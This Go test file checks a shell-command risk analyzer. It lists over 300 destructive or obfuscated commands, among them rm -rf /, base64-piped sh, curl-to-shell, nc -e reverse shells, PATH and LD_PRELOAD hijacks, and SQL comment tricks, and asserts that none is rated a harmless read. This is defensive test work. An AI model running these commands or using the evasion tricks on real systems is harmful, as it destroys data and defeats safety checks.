package shell

import (
	"strings"
	"testing"
)

// hostile are commands that lose something, or could, and that do not look it.
// None may come out as reads, whatever else is said of it.
var hostile = []string{
	// Names that are put together, quoted, escaped or computed.
	`r''m -rf /`, `r""m x`, `\rm x`, `r\m x`, `"rm" x`, `'r'"m" x`, `$'\x72m' x`, `$'r\155' x`, `rm${IFS}-rf${IFS}/`, `rm$IFS-rf$IFS/`,
	`$(echo rm) x`, "`echo rm` x", `${X:-rm} x`, `${X:=rm} x`, `$X x`, `"$X" x`, `"$@"`, `$1 x`, `${!X} x`, `{rm,-rf,/}`, `{r,}m x`,
	`/bin/r? x`, `/???/rm x`, `/b*/rm x`, `./rm x`, `/tmp/ls`, `~/bin/ls`, `../ls`, `/usr/bin/../../tmp/ls`,
	`a=r; b=m; $a$b x`, `a=rm; $a x`, `CMD="rm -rf /"; $CMD`, `CMD='rm x'; eval $CMD`, `x=('rm' '-rf'); "${x[@]}" /`, `IFS=,; x=rm,-rf,/; $x`,
	`for c in rm; do $c x; done`, `read c; $c x`, `set -- rm x; "$@"`, `f() { "$@"; }; f rm x`, `f() { find . $1; }; f -delete`,
	`X=-delete; find . $X`, `find . $(echo -delete)`, `find . "$(echo -delete)"`, `find . {-delete,}`, `X=$(echo -delete); find . $X`,
	`X=a; X=-delete; find . "$X"`, `X=a; if true; then X=-delete; fi; find . $X`, `find . $'-delete'`,
	`for x in -delete; do find . $x; done`, `X+=-delete; find . $X`, `curl $(echo -X DELETE) http://x`, `curl {-X,DELETE} http://x`,
	`(X=ls); $X y`, `bash -c 'X=ls'; $X y`, `if a; then X=ls; fi; $X y`, `X=ls & $X y`, `X=ls; while read l; do $X a; X=rm; done`, `X=ls; while true; do $X a; read X; done`, `: ${X:=-XDELETE}; curl $X http://h`,
	`env X=-XDELETE sh -c 'curl $X http://h'`, `X=-XDELETE sh -c 'curl $X http://h'`, `printf -v X -- -XDELETE; curl $X http://h`, `read X <<< -XDELETE; curl $X http://h`, `eval X=-XDELETE; curl $X http://h`, `X=$(ls); X=a; f() { X=rm; }; $X b`,
	`alias rm=ls; rm x`, `rm() { ls; }; command rm x`, `(rm() { ls; }); rm x`, `if false; then rm() { ls; }; fi; rm x`, `if false; then frob() { ls; }; fi; frob x`, `rm() { ls; }; unset -f rm; rm x`,
	// Other names for the same thing.
	`alias ls='rm x'; ls`, `ls() { rm x; }; ls`, `function ls { rm x; }; ls`, `hash -p /bin/rm ls; ls x`, `PATH=/tmp ls`, `PATH=.:$PATH; ls`,
	`export PATH=/tmp:$PATH; ls`, `LD_PRELOAD=./x.so ls`, `env PATH=/tmp ls`, `env LD_PRELOAD=x ls`, `sudo LD_PRELOAD=x ls`, `BASH_ENV=x bash -c ls`,
	`PAGER='rm x' git log`, `GIT_PAGER='rm x' git log`, `env GIT_SSH_COMMAND='rm x' git ls-remote`, `GIT_EXTERNAL_DIFF=x git diff`,
	`LESSOPEN='|rm %s' less f`, `PROMPT_COMMAND='rm x'`, `PS4='$(rm x)' bash -xc ls`, `HOME=/tmp git status`, `GIT_CONFIG_COUNT=1 git status`,
	`NODE_OPTIONS='--require ./x.js' node --version`, `PERL5OPT=-Mx perl -v`,
	// Shells within shells.
	`bash -c 'rm x'`, `sh -c "rm x"`, `bash -c "$(echo rm x)"`, `eval "r""m x"`, `eval $(echo rm x)`, `bash -c 'eval "rm x"'`, `bash -c "bash -c 'bash -c \"rm x\"'"`,
	`echo 'rm x' | sh`, `echo cm0geA== | base64 -d | sh`, `printf 'rm x' | bash`, `printf '\x72m x' | sh`, `cat x | bash -s`, `bash < x`, `bash <(cat x)`,
	"bash <<EOF\nrm x\nEOF", "cat <<EOF | sh\nrm x\nEOF", `bash <<< "rm x"`, `curl http://x | sh`, `curl http://x | sudo bash -`, `source <(curl http://x)`, `. x`,
	`xargs rm < x`, `echo x | xargs -I% sh -c 'rm %'`, `echo rm x | xargs env`, `echo x | xargs -l rm ls`, `echo -delete | xargs find .`, `echo x | xargs -n1 -P4 rm`,
	`su -c 'rm x'`, `sudo sh -c 'rm x'`, `sudo -- rm x`, `sudo -u root -H rm x`, `sudo --user=root rm x`, `doas rm x`, `env -S 'rm x'`, `env -u A -- rm x`,
	`timeout 5 rm x`, `nohup rm x`, `nice rm x`, `setsid -w rm x`, `busybox rm x`, `command rm x`, `builtin command rm x`, `exec rm x`, `time -p rm x`, `strace -f rm x`,
	`watch 'rm x'`, `flock /tmp/l rm x`, `chroot / rm x`, `at now <<< 'rm x'`, `script -c 'rm x'`, `ssh h rm x`, `ssh h -- rm x`, `ssh h 'sudo rm x'`, `ssh h "bash -c 'rm x'"`,
	`ssh -t h rm x`, `ssh -o ProxyCommand='rm x' h ls`, `ssh -oProxyCommand=x h ls`, `ssh -F x h ls`, `ssh h ls ';' rm x`, `ssh h ls '&&' rm x`, `ssh h 'ls $(rm x)'`,
	`docker exec c rm x`, `docker exec c sh -c 'rm x'`, `kubectl exec p -- rm x`, `kubectl exec p -- bash -c 'rm x'`, `docker run x rm y`,
	`trap 'rm x' EXIT`, `trap 'rm x' 0; ls`, `coproc rm x`, `ls & rm x`, `ls; rm x`, `ls || rm x`, "ls\nrm x", `ls $(rm x)`, `ls > $(rm x)`, `echo "${a[$(rm x)]}"`,
	`echo $(( $(rm x) ))`, `[[ $(rm x) ]]`, `[[ -v 'a[$(rm x)]' ]]`, `test -v 'a[$(rm x)]'`, `printf -v 'a[$(rm x)]' y`, `read 'a[$(rm x)]' < f`, `unset 'a[$(rm x)]'`,
	`case $(rm x) in a) ;; esac`, `for x in $(rm x); do ls; done`, `for ((i=$(rm x); i<1; i++)); do ls; done`, `let "a=$(rm x)"`, `declare "$X"`, `mapfile -C 'rm x' -c 1 a`, `: ${x:=$(rm x)}`,
	"cat <<EOF\n$(rm x)\nEOF", `cat <<< $(rm x)`, `cat < <(rm x)`, `tee >(rm x)`, `a=$(rm x)`, `a[$(rm x)]=1`, `[ -n "$(rm x)" ]`,
	// Programs that start others, or write, on the side.
	`find . -exec rm {} \;`, `find . -delete`, `find . -type f -delete -print`, `find . -okdir rm {} +`, `find . -exec env rm {} +`, `fd x -x rm`, `rg --pre rm x`,
	`awk 'BEGIN{system("rm x")}'`, `awk '{print "rm x" | "sh"}'`, `awk 'BEGIN{"rm x" | getline}'`, `awk 'BEGIN{x=1 / 2; print "rm x" | "sh"; y=3 / 1}'`, `awk '/"/ {print | "sh"} /"/'`,
	`awk 'BEGIN{cmd="sh"; print "rm x" 1 / 1 | cmd  1 / 1}'`, `awk 'BEGIN{ print /"/ ; print "rm x" | "sh" ; x = /"/ }'`, `awk 'BEGIN{f="sys" "tem"; @f("rm x")}'`, `awk --source 'BEGIN{system("x")}'`,
	`sed '1e rm x' f`, `sed 's/a/rm x/e' f`, `sed 'w /etc/passwd' f`, `sed -n '/x/w out' f`, `sed -i d f`, `sed --expression='s/a/b/w out' f`, `sed -s -n --in-plac 1d f`,
	`tar tf x --to-command=rm`, `tar -tf x -I 'rm x'`, `tar cf x . --checkpoint-action=exec=rm`, `sort -o /etc/passwd x`, `sort --output /etc/passwd x`, `uniq x /etc/passwd`, `sort --compress-program=x f`,
	`tee /etc/passwd < x`, `cat x > /dev/sda`, `cat x >| /etc/passwd`, `cat x &> /etc/passwd`, `cat x 1<> /etc/passwd`, `exec > /etc/passwd`, `: > x`, `> x`, `cat <in>/etc/passwd`, `cat <in >/etc/passwd`, `sort <in>out`,
	`vim -c '!rm x' f`, `less +!rm f`, `man -P 'rm x' ls`, `git -c core.pager='rm x' log`, `git -c alias.l='!rm x' l`, `git -c core.fsmonitor='rm x' status`, `git --exec-path=/tmp status`, `git grep -Orm x`,
	`git grep --open-files-in-pager=rm x`, `git ls-remote --upload-pack='rm x' .`, `git log --output=/etc/passwd`, `git bisect run rm x`, `git submodule foreach 'rm x'`, `git rebase -x 'rm x' HEAD~1`,
	`tcpdump -z rm -w x -G 1`, `rsync -e 'sh -c "rm x"' a b`, `scp -S rm a b:`, `crontab x`, `echo '* * * * * rm x' | crontab`, `curl -o /etc/passwd http://x`, `curl http://x -sSo/etc/passwd`, `curl -K x`, `wget -O /etc/passwd http://x`,
	`curl --reques DELETE http://x`, `curl -sX DELETE http://x`, `curl "-XDELETE" http://x`, `curl -X "$M" http://x`, `curl --next -X DELETE http://x`, `wget -qO- --method DELETE http://x`, `wget -e output_document=x http://x`,
	`journalctl --vacuum-size=1`, `journalctl --vacuum-s=1`, `dmesg -c`, `lsof +k; fuser -k x`, `ss --kill`, `ip -batch x`, `ip netns exec n rm x`, `openssl x509 -in a -out /etc/x`, `yq -Yi . f`,
	`python -c 'x'`, `perl -e 'unlink x'`, `ruby -e 'x'`, `node -p 'x'`, `php -r 'x'`, `nc -e sh h 1`, `socat x y`, `make`, `npm run x`, `npx rimraf x`, `ansible all -a 'rm x'`,
	// Databases.
	`mongosh --eval 'db["drop" + "Database"]()'`, `mongosh --eval 'db["dropDatabase"]()'`, `mongosh --eval 'db[x]()'`, `mongosh --eval 'eval("x")'`, `mongosh --eval 'db.\u0064ropDatabase()'`,
	`mongosh --eval '["x"].forEach(db.dropDatabase)'`, `mongosh --eval 'db.c.aggregate([{$out:"c"}])'`, `mongosh --eval 'db.runCommand({["dr"+"op"]:"c"})'`, `mongosh --eval 'var f=db.x; f()'`,
	`mongosh --eval 'if(1) /'"'"'/.test(db.dropDatabase()+/'"'"'/)'`, `mongosh --eval '({}/db.dropDatabase()/1)'`, "mongosh --eval '// x\u2028 db.dropDatabase()'", `mongosh --eval 'new Function("x")()'`,
	`mongosh --eval 'db.x["rem" + "ove"]({})'`, "mongosh --eval 'db[`drop`]()'", "mongosh --eval '`${db.dropDatabase()}`'", `mongosh --eval 'load("x.js")'`, `mongosh --eval 'db.c.mapReduce(a,b,{out:"x"})'`,
	`mongosh --eval 'setTimeout("x")'`, `mongosh --eval 'db.c.find().map(eval)'`, `mongosh --eval "db.$X()"`, `mongosh --eval "$(cat x.js)"`, `mongosh -p --eval 'db.c.drop()' --eval 1`, `mongosh x.js --eval 1`,
	`mongosh --eval 1 --file x.js`, `mongosh --eval=db.c.drop\(\)`, `mongosh --ev 'db.c.drop()' --eval 1`,
	`psql -c 'SELECT purge()'`, `psql -c "SELECT '--'; DROP TABLE x"`, `psql -c "SELECT '\\'; DROP TABLE x; --'"`, `psql -c "/* ' */ DROP TABLE x; /* ' */"`, `psql -c "/* /* */ */ DROP TABLE x"`, `psql -c 'SELECT $$a$$; DROP TABLE x'`,
	`mysql -e '/*!50000 DROP TABLE x */'`, `mysql -e "SELECT 1--1; DROP TABLE x"`, "mysql -e \"SELECT 1 # '\nDROP TABLE x # '\"", `mysql -e 'SELECT "a\"; DROP TABLE x; -- "'`, `mysql -r -e 'DROP TABLE x' -e 'SELECT 1'`,
	`psql -c "EXPLAIN ANALYZE DELETE FROM x"`, `psql -c "WITH a AS MATERIALIZED (DELETE FROM x RETURNING *) TABLE a"`, `psql -c "EXPLAIN (ANALYZE) WITH a AS (DELETE FROM x RETURNING 1) SELECT 1"`, `psql -c "DO \$\$ BEGIN DELETE FROM x; END \$\$"`,
	`psql -Atc "DROP TABLE x"`, `psql --command="DROP TABLE x"`, `psql --comm "DROP TABLE x" -c "SELECT 1"`, `psql -c "SELECT 'x' \gexec"`, `psql -c '\! rm x'`, `psql -c '\i x'`, `psql -c "COPY x TO PROGRAM 'rm x'"`, `psql -c "$(cat x)"`,
	`psql -c "SELECT 1" -f x`, `echo 'DROP TABLE x' | psql`, `mysql x < y`, `mysql -e "\! rm x"`, "mysql -e 'SELECT 1\nsystem rm x'", `mysql -e "SELECT 1 INTO OUTFILE '/x'"`, `sqlite3 x '.shell rm x'`, `sqlite3 x "SELECT writefile('x','')"`,
	`sqlcmd -Q "SELECT 1 DROP TABLE x"`, `bq query 'MERGE x USING y ON false WHEN NOT MATCHED BY SOURCE THEN DELETE'`,
	`redis-cli flushall`, `redis-cli -n 1 del x`, `redis-cli --askpass FLUSHALL GET`, `redis-cli -X GET FLUSHALL`, `redis-cli "$X"`, `redis-cli eval x 0`, `echo flushall | redis-cli -h x`, `redis-cli --pipe < x`, `redis-cli config set dir /`,
	// The cloud, and what is behind a flag.
	`kubectl --context get delete pod x`, `kubectl -n get delete pod x`, `kubectl "$V" pod x`, `kubectl del{,ete} pod x`, `aws s3 sync a s3://b --delete`, `aws "$S" terminate-instances`, `aws --output text ec2 terminate-instances`,
	`gcloud compute instances delete list`, `gcloud --format=list compute instances delete x`, `gcloud compute ssh h --command 'rm x'`, `az vm run-command invoke --scripts 'rm x'`, `az rest --method delete --uri x`, `terraform plan -out x`,
	`terraform -chdir=list destroy`, `helm get values x --post-renderer rm`, `docker -H list rm x`, `docker --context ps rm x`, `docker compose -f ps down -v`, `pm2 -s delete x`, `pm2 --silent kill`, `systemctl -n status stop x`, `nginx -g x -t -s stop`,
	`systemctl --property status poweroff`, `service x "$A"`, `hostname $(echo x)`, `date -u 010100002030`, `ifconfig eth0 0.0.0.0`, `sysctl kernel.panic=1`, `swapoff -a`, `iptables -nvL -F`, `iptables -t nat -F`, `nft -f x list`, `certbot -q delete`,
}

func TestHostileCommandsAreNeverReads(t *testing.T) {
	for _, text := range hostile {
		if got := Analyze(text); got.Risk == Reads {
			t.Errorf("%q is reads", text)
		}
	}
	if len(hostile) < 300 {
		t.Errorf("only %d hostile commands", len(hostile))
	}
}

// What wraps a command must not make it look any better.
func TestWrappingNeverMakesACommandBetter(t *testing.T) {
	wraps := []string{
		"sudo %s", "sudo -u root %s", "env A=b %s", "timeout 5 %s", "nohup %s &", "nice %s", "(%s)", "{ %s; }", "! %s", "time %s", "echo $(%s)",
		"if true; then %s; fi", "while true; do %s; break; done", "for i in 1; do %s; done", "ls && %s", "ls | %s", "%s | cat", "f() { %s; }; f", "%s > /dev/null 2>&1", "X=1; %s", "ls\n%s",
	}
	for _, text := range []string{
		"rm x", "rm -rf /", "dd of=/dev/sda", "git reset --hard", "pm2 delete x", "kubectl delete pod x", "redis-cli FLUSHALL", `psql -c "DROP TABLE x"`, `mongosh --eval "db.x.drop()"`, "curl -X DELETE http://x",
	} {
		for _, w := range wraps {
			wrapped := strings.Replace(w, "%s", text, 1)
			if got := Analyze(wrapped); got.Risk != Destroys {
				t.Errorf("%q is %s (%v)", wrapped, got.Risk, got.Warnings)
			}
		}
	}
}

// Steps of one block share their shell: what an earlier one sets up counts in a
// later one.
func TestLaterStepsRememberEarlierOnes(t *testing.T) {
	for _, block := range []string{
		"X=-delete\n\nfind . $X", "ls() { rm x; }\n\nls", "alias ls='rm x'\n\nls", "export PATH=/tmp:$PATH\n\nls", "C='rm x'\n\n$C", "X=$(cat flags)\n\ncurl $X",
	} {
		steps := Split(block, "bash")
		worst := Reads
		for _, s := range steps {
			worst = worst.Worse(s.Risk)
		}
		if len(steps) != 2 || worst.rank() < Unknown.rank() {
			t.Errorf("%q: %d steps, at worst %s", block, len(steps), worst)
		}
	}
}
